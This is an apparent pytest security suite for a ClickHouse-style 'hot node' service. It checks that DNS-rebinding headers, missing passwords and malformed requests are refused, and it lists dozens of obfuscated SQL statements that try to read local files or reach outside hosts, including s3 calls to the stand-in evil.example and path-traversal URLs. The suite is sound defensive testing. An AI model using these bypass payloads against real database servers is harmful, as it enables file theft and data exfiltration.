"""Requests by somebody who should not be able to reach files, programs or other servers through the hot node, with the password even."""

from __future__ import annotations

import contextlib
import http.client
import os
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from services.hotnode.guard import check_statement, rules_for
from tests.support.hotnode import ClickHouse, HotNode
from tests.support.ports import free_port

PASSWORD = "only-the-suite-knows"
S3 = "http://127.0.0.1:8333"


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HotNode]:
    """A node with a password and a bucket."""
    directory = tmp_path_factory.mktemp("hostile") / "hot"
    with HotNode(
        directory, password=PASSWORD, environment={"TAEL_S3_URL": S3, "TAEL_S3_BUCKET": "tael", "TAEL_HEADER_SECS": "0.5"}
    ) as running:
        yield running


@pytest.fixture
def known(node: HotNode) -> ClickHouse:
    """Somebody who has the password."""
    return ClickHouse(node.url, node.user, PASSWORD, node)


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    """A file of the user who runs the node."""
    path = tmp_path / "secret.csv"
    path.write_text("top,1\n")
    return path


def ask(node: HotNode, headers: dict[str, str], body: bytes = b"SELECT 1", path: str = "/", method: str = "POST") -> tuple[int, bytes]:
    """One raw request; ``headers`` replace what a client would send."""
    connection = http.client.HTTPConnection("127.0.0.1", node.port, timeout=10)
    try:
        connection.putrequest(method, path, skip_host="Host" in headers)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        answer = connection.getresponse()
        return answer.status, answer.read()
    finally:
        connection.close()


LOGIN = {"X-ClickHouse-User": "default", "X-ClickHouse-Key": PASSWORD}


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "localhost:8123", "[::1]:8123"])
def test_its_own_names_are_answered(node: HotNode, name: str) -> None:
    assert ask(node, {"Host": name, **LOGIN}) == (200, b"1\n")


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "evil.example"},
        {"Host": "evil.example:8123"},
        {"Host": "127.0.0.1.evil.example"},
        {"Host": "192.0.2.1"},
        {"Host": ""},
        {"Host": "["},
        {"Origin": "http://127.0.0.1:8123"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site", "Content-Type": "text/plain"},
    ],
)
@pytest.mark.parametrize("path", ["/", "/ping"])
def test_web_pages_are_refused_whatever_they_know(node: HotNode, headers: dict[str, str], path: str) -> None:
    """A foreign Host is DNS rebinding, an Origin a page's script; neither gets an answer, with the password or without."""
    assert ask(node, {**LOGIN, **headers}, path=path, method="POST" if path == "/" else "GET")[0] == 403


def test_foreign_hosts_read_no_metrics(tmp_path: Path) -> None:
    internal = f"127.0.0.1:{free_port()}"
    with HotNode(tmp_path / "hot", environment={"TAEL_INTERNAL_ADDR": internal}):
        statuses = []
        for host in (internal, "evil.example"):
            connection = http.client.HTTPConnection(internal, timeout=10)
            connection.request("GET", "/metrics", headers={"Host": host})
            statuses.append(connection.getresponse().status)
            connection.close()
    assert statuses == [200, 403]


@pytest.mark.parametrize("headers", [{}, {"X-ClickHouse-User": "default"}, {"X-ClickHouse-Key": "guessed"}])
def test_nothing_runs_without_the_password(node: HotNode, headers: dict[str, str]) -> None:
    status, body = ask(node, headers)
    assert status == 403
    assert b"AUTHENTICATION_FAILED" in body


def test_bytes_that_are_not_http_are_logged_as_one_line_without_content(node: HotNode) -> None:
    for sent in (f"X-ClickHouse-Key {PASSWORD}", f"Authorization: Bearer {PASSWORD}\x00"):
        with socket.create_connection(("127.0.0.1", node.port), timeout=10) as wire:
            wire.sendall(f"GET / HTTP/1.1\r\n{sent}\r\n\r\n".encode())
            answer = b"".join(iter(lambda: wire.recv(4096), b""))
        assert answer.split(b" ")[1] == b"400"
        assert PASSWORD not in answer.decode() + node.log
    assert "Traceback" not in node.log
    assert node.log.count("malformed request") == 2


@pytest.mark.parametrize("sent", [b"", b"POST / HTTP/1.1\r\nHost: 127.0.0.1\r\n"])
def test_a_client_that_sends_no_request_is_disconnected(node: HotNode, sent: bytes) -> None:
    with socket.create_connection(("127.0.0.1", node.port), timeout=10) as wire:
        wire.sendall(sent)
        with contextlib.suppress(ConnectionResetError):
            assert wire.recv(1) == b""


def test_a_statement_may_be_slow_and_its_rows_may_pause(node: HotNode) -> None:
    """And the connection may idle after it."""
    connection = http.client.HTTPConnection("127.0.0.1", node.port, timeout=30)
    with contextlib.closing(connection):
        for statement in (b"SELECT sleep(1.5)", b"SELECT 7"):
            connection.putrequest("POST", "/")
            for name, value in {**LOGIN, "Content-Length": str(len(statement))}.items():
                connection.putheader(name, value)
            connection.endheaders(statement[:6])
            time.sleep(1.2)  # longer than a head may take
            connection.send(statement[6:])
            answer = connection.getresponse()
            assert (answer.status, answer.read()) == (200, b"0\n" if b"sleep" in statement else b"7\n")
            time.sleep(1.2)


def test_a_listener_for_everybody_wants_a_password(tmp_path: Path) -> None:
    environment = {name: value for name, value in os.environ.items() if not name.startswith("TAEL_")}
    settings = {"TAEL_HOTNODE_ADDR": f"0.0.0.0:{free_port()}", "TAEL_HOTNODE_DATA_DIR": str(tmp_path / "hot")}
    command = [sys.executable, "-m", "services.hotnode"]
    done = subprocess.run(command, env={**environment, **settings}, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 2
    assert "would let anybody run SQL: set TAEL_CLICKHOUSE_PASSWORD" in done.stderr


READS: dict[str, Callable[[str], str]] = {
    "table function": lambda p: f"SELECT * FROM file('{p}')",
    "quoted table function": lambda p: f"SELECT * FROM `file`('{p}')",
    "escaped table function": lambda p: f"SELECT * FROM `fil\\x65`('{p}')",
    "commented table function": lambda p: f"SELECT * FROM FiLe /* ( */ ('{p}')",
    "scalar function": lambda p: f"SELECT file('{p}')",
    "in a default": lambda p: f"CREATE TABLE stolen (a String DEFAULT file('{p}')) ENGINE = Memory",
    "string as table": lambda p: f"SELECT * FROM '{p}'",
    "string as second table": lambda p: f"SELECT * FROM system.one, '{p}'",
    "string in brackets": lambda p: f"SELECT * FROM ('{p}')",
    "escaped string as table": lambda p: "SELECT * FROM '" + p.replace("/", "\\x2f") + "'",
    "backquotes as table": lambda p: f"SELECT * FROM `{p}`",
    "double quotes as table": lambda p: f'SELECT * FROM default."{p}"',
    "joined": lambda p: f"SELECT * FROM system.one CROSS JOIN `{p}`",
    "described": lambda p: f"DESCRIBE TABLE '{p}'",
    "as": lambda p: f"CREATE TABLE stolen ENGINE = Memory AS SELECT * FROM '{p}'",
    "database of files": lambda p: f"CREATE DATABASE stolen ENGINE = Filesystem('{Path(p).parent}')",
    "table of a file": lambda p: f"CREATE TABLE stolen (a String) ENGINE = File(CSV, '{p}')",
    "table of a file without equals": lambda p: f"CREATE TABLE stolen (a String) ENGINE File(CSV, '{p}')",
    "infile": lambda p: f"INSERT INTO stolen FROM INFILE '{p}' FORMAT CSV",
    "values": lambda p: f"INSERT INTO kept VALUES (file('{p}'))",
    "values by format": lambda p: f"INSERT INTO kept FORMAT Values (file('{p}'))",
    "values in a string": lambda p: f"SELECT * FROM format(Values, 'a String', $$(file('{p}'))$$)",
    "eval": lambda p: f"SELECT * FROM eval('SELECT * FROM file(''{p}'')')",
    "loop": lambda p: f"SELECT * FROM loop('default', '{p}') LIMIT 1",
    "filter": lambda p: f"SELECT 1 SETTINGS additional_table_filters = {{'system.one': 'file(''{p}'') = ''x'''}}",
    "after two slashes": lambda p: f"SELECT 1 // '\n, file('{p}') // '",
    "after typographic quotes": lambda p: f"SELECT \u2018'\u2019, file('{p}'), \u2018'\u2019",
    "after a nested comment": lambda p: f"SELECT /* /* */ ' */ file('{p}') -- '",
    "dictionary": lambda p: f"CREATE DICTIONARY stolen (a String) PRIMARY KEY a SOURCE(FILE(path '{p}' format 'CSV')) LAYOUT(FLAT())",
    "disk": lambda p: f"CREATE TABLE stolen (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '{p}')",
    "backup": lambda p: f"BACKUP TABLE kept TO File('{p}.backup')",
    "outfile": lambda p: f"SELECT 1 INTO OUTFILE '{p}'",
    "outfile after a comment": lambda p: f"SELECT 1 INTO /* x */ OUTFILE '{p}' FORMAT CSV",
    "written": lambda p: f"INSERT INTO FUNCTION file('{p}.new', 'CSV', 'a Int8') SELECT 1",
    "parallel": lambda p: f"CREATE TABLE a1 (a Int8) ENGINE = Memory PARALLEL WITH INSERT INTO FUNCTION file('{p}.new') SELECT 1",
}


@pytest.mark.parametrize("how", READS)
def test_files_are_out_of_reach(known: ClickHouse, secret: Path, how: str) -> None:
    """However the statement is written, it is refused, and neither reads nor writes."""
    known.run("CREATE TABLE IF NOT EXISTS kept (a String) ENGINE = Memory")
    answer = known.request("POST", READS[how](str(secret)).encode())
    assert answer.status != 200
    assert b"top" not in answer.data
    assert known.run("SELECT count() FROM kept WHERE a LIKE '%top%'") == "0\n"
    assert secret.read_text() == "top,1\n"
    assert [path.name for path in secret.parent.iterdir()] == ["secret.csv"]


@pytest.mark.parametrize(
    ("sql", "fields"),
    [
        ("SELECT * FROM {t:Identifier}", {"param_t": "/etc/hostname"}),
        ("SELECT 1", {"additional_result_filter": "file('/etc/hostname') = ''"}),
        ("SELECT 1", {"default_format": "CSV SETTINGS additional_result_filter = '1'"}),
        ("SELECT 1", {"format_template_resultset": "/etc/hostname"}),
        ("SELECT 1", {"output_format_schema": "/tmp/written"}),
        ("SELECT 1", {"format_schema": "/etc/hostname:A"}),
        ("SELECT 1 SETTINGS input_format_values_interpret_expressions = 1", {}),
    ],
)
def test_parameters_and_settings_open_no_other_way(known: ClickHouse, sql: str, fields: dict[str, Any]) -> None:
    answer = known.request("POST", sql.encode(), **fields)
    assert answer.status in (400, 403)


@pytest.mark.parametrize(
    "source",
    [
        "url('http://127.0.0.1:1/', 'CSV', 'a String')",
        "remote('127.0.0.1', system.one)",
        "remoteSecure('127.0.0.1', system.one)",
        "cluster('default', system.one)",
        "executable('cat', 'TSV', 'a String')",
        "python('x')",
        "mysql('127.0.0.1:1', 'a', 'b', 'c', 'd')",
        "sqlite('/tmp/a.db', 'b')",
        "s3Cluster('default', 'http://127.0.0.1:8333/tael/x')",
        "s3('http://127.0.0.1:8333/other/x.parquet')",
        "s3('http://127.0.0.1:8333/tael')",
        "s3('http://127.0.0.1:8333/tael/../other/x')",
        "s3('http://127.0.0.1:8333/tael\\x2f..\\x2fother')",
        "s3('http://127.0.0.1:8333/tael/%2e%2e/other/x')",
        "s3('http://127.0.0.1:8333/tael/%252e%252e/other/x')",
        "s3('http://evil.example/tael/x.parquet')",
        "s3('http://127.0.0.1:8333@evil.example/tael/x')",
        "s3(concat('http://evil.example/', 'x'))",
        "s3('http://127.0.0.1:8333/tael/' || 'x')",
        "s3(named, url = 'http://evil.example/x')",
        "gcs('http://evil.example/x')",
        "iceberg('http://evil.example/x')",
    ],
)
def test_other_servers_and_programs_are_out_of_reach(known: ClickHouse, source: str) -> None:
    assert known.fails(f"SELECT * FROM {source}") == 497
    assert known.fails(f"INSERT INTO FUNCTION {source} SELECT 1") == 497


def test_the_configured_bucket_may_be_asked() -> None:
    rules = rules_for(["s3", "s3Cluster"], [], f"{S3}/tael/")
    check_statement(f"SELECT * FROM s3('{S3}/tael/a/{{1..3}}.parquet', 'key', 'secret', 'Parquet')".encode(), {}, rules)
    check_statement(f"INSERT INTO FUNCTION s3('{S3}/tael/x.parquet') SELECT 1".encode(), {}, rules)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 'file(''/etc/passwd'')', \"name\", 1 / 2, [1, 2][1] FROM (SELECT 1 AS name) -- file('/x')",
        "SELECT splitByChar('/', '/a/b'), trim(BOTH '/' FROM materialize('/x/')), '/etc' IN ('/etc', '/tmp')",
        "WITH '/a' AS path SELECT path FROM numbers(1) WHERE path = '/a' ORDER BY '/b'",
        "SELECT count() FROM system.tables WHERE engine = 'File' AND name LIKE '%/%'",
        "SELECT $tag$ it's / * all */ text $tag$",
    ],
)
def test_harmless_statements_that_resemble_forbidden_ones_are_allowed(known: ClickHouse, sql: str) -> None:
    known.run(sql)


def test_data_files_are_readable_by_the_owner_only(node: HotNode, known: ClickHouse) -> None:
    known.run("CREATE TABLE modes (a String) ENGINE = MergeTree ORDER BY a")
    known.run("INSERT INTO modes VALUES ('x')")
    assert node.directory.stat().st_mode & 0o777 == 0o700
    assert not [path for path in node.directory.rglob("*") if not path.is_symlink() and path.stat().st_mode & 0o077]
